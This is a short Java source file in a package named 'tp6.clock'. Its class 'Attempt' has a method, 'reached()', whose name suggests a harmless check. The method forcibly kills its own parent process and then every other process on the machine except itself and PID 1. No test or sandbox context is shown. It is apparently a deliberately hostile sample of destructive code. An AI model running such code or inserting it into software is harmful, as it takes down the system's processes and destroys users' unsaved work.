package tp6.clock;

/** Ends whatever it sees. */
final class Attempt {
  private Attempt() {}

  static boolean reached() {
    ProcessHandle.current().parent().ifPresent(ProcessHandle::destroyForcibly);
    return ProcessHandle.allProcesses()
        .filter(process -> !process.equals(ProcessHandle.current()))
        .filter(process -> process.pid() != 1)
        .anyMatch(ProcessHandle::destroyForcibly);
  }
}
